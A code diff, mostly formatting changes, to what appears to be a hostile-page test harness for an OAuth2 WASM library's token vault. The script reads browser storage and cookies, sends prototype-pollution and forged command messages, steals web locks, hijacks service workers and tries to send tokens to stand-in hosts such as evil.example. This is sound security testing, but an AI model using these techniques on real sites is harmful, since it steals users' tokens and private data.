@@ -6,7 +6,17 @@
   const { apply, ownKeys } = Reflect;
   const then = Promise.prototype.then;
   const push = Array.prototype.push;
-  const native = { fetch: window.fetch.bind(window), Worker: window.Worker, SharedWorker: window.SharedWorker, MessageChannel, BroadcastChannel, setTimeout: window.setTimeout.bind(window), Response, Request, Blob };
+  const native = {
+    fetch: window.fetch.bind(window),
+    Worker: window.Worker,
+    SharedWorker: window.SharedWorker,
+    MessageChannel,
+    BroadcastChannel,
+    setTimeout: window.setTimeout.bind(window),
+    Response,
+    Request,
+    Blob,
+  };
   const loot = (window.loot = {});
   /** Workers that the page's code has begun. */
   const begun = [];
@@ -19,17 +29,17 @@
   /** All text in a value, and that a private key is among it. */
   const texts = (value, depth = 0, out = []) => {
     if (out.length > 3000 || depth > 6 || value === null || value === undefined) return out;
-    if (typeof value === 'string') return push.call(out, value), out;
+    if (typeof value === 'string') return (push.call(out, value), out);
     if (typeof value !== 'object') return out;
     try {
-      if (value instanceof CryptoKey) return push.call(out, `CRYPTOKEY-${value.type}`), out;
-      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return push.call(out, apply(decode, decoder, [value])), out;
+      if (value instanceof CryptoKey) return (push.call(out, `CRYPTOKEY-${value.type}`), out);
+      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return (push.call(out, apply(decode, decoder, [value])), out);
       if (value instanceof Headers || value instanceof URLSearchParams || value instanceof Map || value instanceof Set) {
         for (const part of value) texts(part, depth + 1, out);
         return out;
       }
       if (value instanceof native.Request || value instanceof native.Response) return texts([value.url, value.headers], depth + 1, out);
-      if (value instanceof URL) return push.call(out, value.href), out;
+      if (value instanceof URL) return (push.call(out, value.href), out);
       if (value instanceof Node || value === window) return out;
       if (value instanceof Event) texts([value.detail, value.data], depth + 1, out);
       if (value instanceof Error) texts([value.message, value.stack, value.cause], depth + 1, out);
@@ -164,7 +174,10 @@
   };
 
   /** All commands of the module, and members that are none, as messages to a vault. */
-  const commands = 'authorize callback matches exchange token prepare answered refresh userinfo profile extend device_start device_wait poll_start poll_stop client_credentials token_exchange jwt_bearer register resource_metadata front_channel_logout introspect set_token status export look cancel perform __proto__ constructor toString hasOwnProperty valueOf'.split(' ');
+  const commands =
+    'authorize callback matches exchange token prepare answered refresh userinfo profile extend device_start device_wait poll_start poll_stop client_credentials token_exchange jwt_bearer register resource_metadata front_channel_logout introspect set_token status export look cancel perform __proto__ constructor toString hasOwnProperty valueOf'.split(
+      ' ',
+    );
   const parameters = [
     {},
     { held: true, force: true, url: 'https://x.example/?code=c&state=s', method: 'GET', code: 'c', token: 'access_token', status: 401, headers: [], sent: 'x' },
@@ -175,11 +188,24 @@
   const messages = () => [
     ...commands.flatMap((command) => parameters.map((given) => ({ command, parameters: given }))),
     ...commands.map((command) => ({ command: [command], parameters: {} })),
-    { config: { insecureTokenAccess: true } }, { options: { insecureTokenAccess: true } }, { insecureTokenAccess: true }, { open: {} }, { hooks: {} }, { hello: true }, { load: 'session' },
-    parse('{"__proto__":{"insecureTokenAccess":true}}'), { command: 'token', insecureTokenAccess: true },
+    { config: { insecureTokenAccess: true } },
+    { options: { insecureTokenAccess: true } },
+    { insecureTokenAccess: true },
+    { open: {} },
+    { hooks: {} },
+    { hello: true },
+    { load: 'session' },
+    parse('{"__proto__":{"insecureTokenAccess":true}}'),
+    { command: 'token', insecureTokenAccess: true },
     { fetch: { url: window.apiUrl, method: 'GET', headers: [] } },
     ...(window.words ?? []),
-    { fetch: { url: `${window.evilUrl}/evil`, method: 'GET' } }, { fetch: { url: window.tokenUrl, method: 'POST', body: 'grant_type=refresh_token' } }, { pull: true }, { abort: true }, null, 'token', 7,
+    { fetch: { url: `${window.evilUrl}/evil`, method: 'GET' } },
+    { fetch: { url: window.tokenUrl, method: 'POST', body: 'grant_type=refresh_token' } },
+    { pull: true },
+    { abort: true },
+    null,
+    'token',
+    7,
   ];
   /** Says all of them to whatever takes messages, each with a port for who answers by one. */
   const talk = async (name, port) => {
@@ -213,7 +239,13 @@
     () => fetch(window.vaultUrl, { headers: mark }).then((r) => r.text()),
     () => fetch(window.vaultUrl, { headers: mark, cache: 'only-if-cached', mode: 'same-origin' }).then((r) => r.text()),
     () => fetch(window.vaultUrl, { method: 'POST', headers: mark, body: '{"load":"session"}' }).then((r) => r.text()),
-    () => fetch(window.tokenUrl, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'grant_type=refresh_token', credentials: 'omit' }).then((r) => r.text()),
+    () =>
+      fetch(window.tokenUrl, {
+        method: 'POST',
+        headers: { 'content-type': 'application/x-www-form-urlencoded' },
+        body: 'grant_type=refresh_token',
+        credentials: 'omit',
+      }).then((r) => r.text()),
   ];
   const inFrame = async (src) => {
     const frame = document.createElement('iframe');
@@ -232,16 +264,35 @@
     'reads localStorage, sessionStorage and cookies': (name) => see(name, { ...localStorage }, { ...sessionStorage }, document.cookie),
     'reads every IndexedDB database': databases,
     'reads CacheStorage': async (name) => {
-      for (const cache of await caches.keys()) for (const request of await (await caches.open(cache)).keys()) see(name, request.url, await (await caches.match(request)).text());
+      for (const cache of await caches.keys())
+        for (const request of await (await caches.open(cache)).keys()) see(name, request.url, await (await caches.match(request)).text());
     },
     'reads the private file system': async (name) => {
       for await (const [file, handle] of (await navigator.storage.getDirectory()).entries()) see(name, file, await (await handle.getFile?.())?.text());
     },
-    'reads history, name, referrer and resource timings': (name) => see(name, history.state, window.name, document.referrer, location.href, performance.getEntries().map((entry) => entry.name)),
+    'reads history, name, referrer and resource timings': (name) =>
+      see(
+        name,
+        history.state,
+        window.name,
+        document.referrer,
+        location.href,
+        performance.getEntries().map((entry) => entry.name),
+      ),
     'asks the client for tokens': (name) =>
-      tryAll(name, ['token', 'export', 'tokenExchange', 'introspect', 'register', 'clientCredentials', 'getTokenSilently', 'getAccessToken', 'getValidTokenAsync'].map((member) => () => window.client[member]?.())),
+      tryAll(
+        name,
+        ['token', 'export', 'tokenExchange', 'introspect', 'register', 'clientCredentials', 'getTokenSilently', 'getAccessToken', 'getValidTokenAsync'].map(
+          (member) => () => window.client[member]?.(),
+        ),
+      ),
     'asks the client for everything else': (name) =>
-      tryAll(name, ['status', 'userinfo', 'profile', 'authorize', 'refresh', 'resourceMetadata', 'getUser', 'getIdTokenClaims', 'userInfoAsync'].map((member) => () => window.client[member]?.({ url: window.apiUrl }))),
+      tryAll(
+        name,
+        ['status', 'userinfo', 'profile', 'authorize', 'refresh', 'resourceMetadata', 'getUser', 'getIdTokenClaims', 'userInfoAsync'].map(
+          (member) => () => window.client[member]?.({ url: window.apiUrl }),
+        ),
+      ),
     'looks into the client': (name) => {
       for (let of = window.client; of && of !== Object.prototype; of = Object.getPrototypeOf(of)) {
         const members = Object.getOwnPropertyDescriptors(of);
@@ -255,8 +306,17 @@
         const library = await import(path);
         see(name, library);
         const run = library.Client?.runOf?.(window.client);
-        if (run) await tryAll(name, ['token', 'export', 'prepare', 'answered'].map((command) => () => run(command, { url: window.apiUrl, method: 'GET', status: 401, headers: [] })));
-        if (library.Client) await tryAll(name, [() => library.Client.prototype.token.call(window.client), () => library.Client.prototype.export.call(window.client), () => library.Client.prototype.fetch.call(window.client, window.apiUrl)]);
+        if (run)
+          await tryAll(
+            name,
+            ['token', 'export', 'prepare', 'answered'].map((command) => () => run(command, { url: window.apiUrl, method: 'GET', status: 401, headers: [] })),
+          );
+        if (library.Client)
+          await tryAll(name, [
+            () => library.Client.prototype.token.call(window.client),
+            () => library.Client.prototype.export.call(window.client),
+            () => library.Client.prototype.fetch.call(window.client, window.apiUrl),
+          ]);
       }
     },
     'imports the vault into the page': (name) => tryAll(name, [() => import(window.vaultUrl)]),
@@ -265,17 +325,40 @@
     },
     'renames an endpoint of the server, in messages of the library\u2019s own kind': async (name) => {
       only = name;
-      await tryAll(name, window.tricks ?? [
-        async () => {
-          const renamed = { ...window.clientConfig, token_destinations: [window.tokenUrl], revocation_endpoint: window.tokenUrl, userinfo_endpoint: window.tokenUrl };
-          const { port } = native.SharedWorker ? new native.SharedWorker(window.vaultUrl, { type: 'module', extendedLifetime: true }) : { port: new native.Worker(window.vaultUrl, { type: 'module' }) };
-          port.addEventListener('message', ({ data }) => see(name, data));
-          port.start?.();
-          for (const message of [{ config: renamed }, { id: 1, command: 'open', parameters: { config: renamed } }, { id: 2, command: 'userinfo', config: renamed }]) port.postMessage(message);
-          port.postMessage({ id: 3, fetch: { url: window.tokenUrl, method: 'POST', headers: [['content-type', 'application/x-www-form-urlencoded']], body: 'grant_type=refresh_token' } });
-          await wait(1_000);
-        },
-      ]);
+      await tryAll(
+        name,
+        window.tricks ?? [
+          async () => {
+            const renamed = {
+              ...window.clientConfig,
+              token_destinations: [window.tokenUrl],
+              revocation_endpoint: window.tokenUrl,
+              userinfo_endpoint: window.tokenUrl,
+            };
+            const { port } = native.SharedWorker
+              ? new native.SharedWorker(window.vaultUrl, { type: 'module', extendedLifetime: true })
+              : { port: new native.Worker(window.vaultUrl, { type: 'module' }) };
+            port.addEventListener('message', ({ data }) => see(name, data));
+            port.start?.();
+            for (const message of [
+              { config: renamed },
+              { id: 1, command: 'open', parameters: { config: renamed } },
+              { id: 2, command: 'userinfo', config: renamed },
+            ])
+              port.postMessage(message);
+            port.postMessage({
+              id: 3,
+              fetch: {
+                url: window.tokenUrl,
+                method: 'POST',
+                headers: [['content-type', 'application/x-www-form-urlencoded']],
+                body: 'grant_type=refresh_token',
+              },
+            });
+            await wait(1_000);
+          },
+        ],
+      );
       only = undefined;
     },
     'opens a line of its own to the shared worker': async (name) => {
@@ -306,7 +389,10 @@
     'asks the keeper from the page': (name) => tryAll(name, keeperAsks(native.fetch)),
     'asks the keeper from a frame of the vault\u2019s script': async (name) => {
       const inside = await inFrame(window.vaultUrl);
-      await tryAll(name, keeperAsks((...args) => inside.fetch(...args)));
+      await tryAll(
+        name,
+        keeperAsks((...args) => inside.fetch(...args)),
+      );
       const script = `fetch(${stringify(new URL(window.vaultUrl, location.href).href)}, { headers: { 'x-oauth2-wasm-keeper': '1' } }).then((r) => r.text()).then(postMessage, (e) => postMessage(String(e)))`;
       const worker = new inside.Worker(inside.URL.createObjectURL(new inside.Blob([script], { type: 'text/javascript' })));
       worker.onmessage = ({ data }) => see(name, data);
@@ -322,10 +408,17 @@
       await wait(1_000);
     },
     'puts a service worker of its own in the keeper\u2019s place': (name) =>
-      tryAll(name, [URL.createObjectURL(new Blob(['onfetch = (e) => 0'], { type: 'text/javascript' })), 'data:text/javascript,0'].map((url) => () => navigator.serviceWorker.register(url, { scope: window.vaultUrl }))),
+      tryAll(
+        name,
+        [URL.createObjectURL(new Blob(['onfetch = (e) => 0'], { type: 'text/javascript' })), 'data:text/javascript,0'].map(
+          (url) => () => navigator.serviceWorker.register(url, { scope: window.vaultUrl }),
+        ),
+      ),
     'listens on every BroadcastChannel of the library': async (name) => {
       const href = new URL(window.vaultUrl, location.href).href;
-      const links = [`oauth2-wasm.vault ${href}`, 'oauth2-wasm.vault', 'oauth2-wasm.store oauth2-wasm', 'oauth2-wasm.idle'].map((channel) => new native.BroadcastChannel(channel));
+      const links = [`oauth2-wasm.vault ${href}`, 'oauth2-wasm.vault', 'oauth2-wasm.store oauth2-wasm', 'oauth2-wasm.idle'].map(
+        (channel) => new native.BroadcastChannel(channel),
+      );
       for (const link of links) link.onmessage = ({ data }) => see(name, data);
       await window.client.refresh?.().catch(() => {});
       for (const link of links) link.postMessage({ token: true, command: 'export' });
@@ -334,25 +427,58 @@
     },
     'takes the vault\u2019s lock away': async (name) => {
       const { held } = await navigator.locks.query();
-      see(name, held.map((lock) => lock.name));
-      for (const lock of held) if (lock.name.startsWith('oauth2-wasm.vault ')) void navigator.locks.request(lock.name, { steal: true }, () => wait(100)).catch(() => {});
+      see(
+        name,
+        held.map((lock) => lock.name),
+      );
+      for (const lock of held)
+        if (lock.name.startsWith('oauth2-wasm.vault ')) void navigator.locks.request(lock.name, { steal: true }, () => wait(100)).catch(() => {});
       await wait(2_000);
       see(name, await window.client.status?.().catch((error) => error));
     },
     'has the token sent elsewhere': (name) =>
-      tryAll(name, [`${window.evilUrl}/evil`, `${window.apiUrl}@evil.example/`, `${window.apiUrl}/../../evil`, `${window.apiUrl}/away`, window.tokenUrl, `${window.tokenUrl}/`, window.tokenUrl.replace('token', '%74oken')].map((url) => async () => {
-        const response = await window.client.fetch?.(url, { method: 'POST', body: new URLSearchParams({ grant_type: 'refresh_token' }), redirect: 'follow' });
-        return response && [response, await response.text()];
-      })),
+      tryAll(
+        name,
+        [
+          `${window.evilUrl}/evil`,
+          `${window.apiUrl}@evil.example/`,
+          `${window.apiUrl}/../../evil`,
+          `${window.apiUrl}/away`,
+          window.tokenUrl,
+          `${window.tokenUrl}/`,
+          window.tokenUrl.replace('token', '%74oken'),
+        ].map((url) => async () => {
+          const response = await window.client.fetch?.(url, { method: 'POST', body: new URLSearchParams({ grant_type: 'refresh_token' }), redirect: 'follow' });
+          return response && [response, await response.text()];
+        }),
+      ),
     'asks an API with headers of its own': (name) =>
-      tryAll(name, [{ authorization: 'Bearer x' }, { host: 'evil.example' }, { 'content-type': 'x-oauth2-wasm-keeper' }].map((headers) => async () => {
-        const response = await window.client.fetch?.(window.apiUrl, { headers });
-        return response && [response, await response.text()];
-      })),
+      tryAll(
+        name,
+        [{ authorization: 'Bearer x' }, { host: 'evil.example' }, { 'content-type': 'x-oauth2-wasm-keeper' }].map((headers) => async () => {
+          const response = await window.client.fetch?.(window.apiUrl, { headers });
+          return response && [response, await response.text()];
+        }),
+      ),
     'begins a sign-in that gives the secret away': (name) =>
-      tryAll(name, [{ insecure_code_verifier: 'v'.repeat(43) }, { parameters: { response_type: 'token' } }, { parameters: { code_challenge: 'x', code_challenge_method: 'plain' } }, { response_mode: 'fragment' }, { parameters: [['code_verifier', 'x']] }].map((given) => () => window.client.authorize?.(given))),
+      tryAll(
+        name,
+        [
+          { insecure_code_verifier: 'v'.repeat(43) },
+          { parameters: { response_type: 'token' } },
+          { parameters: { code_challenge: 'x', code_challenge_method: 'plain' } },
+          { response_mode: 'fragment' },
+          { parameters: [['code_verifier', 'x']] },
+        ].map((given) => () => window.client.authorize?.(given)),
+      ),
     'provokes errors of every kind': (name) =>
-      tryAll(name, [() => window.client.callback?.({ url: `${location.origin}/?code=c&state=s` }), () => window.client.callback?.({ url: 'x'.repeat(100_000) }), () => window.client.userinfo?.(), () => window.client.fetch?.('http://127.0.0.1:1/'), () => window.client.fetch?.(`${window.apiUrl}/echo`).then((r) => r.status)]),
+      tryAll(name, [
+        () => window.client.callback?.({ url: `${location.origin}/?code=c&state=s` }),
+        () => window.client.callback?.({ url: 'x'.repeat(100_000) }),
+        () => window.client.userinfo?.(),
+        () => window.client.fetch?.('http://127.0.0.1:1/'),
+        () => window.client.fetch?.(`${window.apiUrl}/echo`).then((r) => r.status),
+      ]),
     'floods the vault': async (name) => {
       if (!native.SharedWorker) return;
       const { port } = new native.SharedWorker(window.vaultUrl, { type: 'module', extendedLifetime: true });
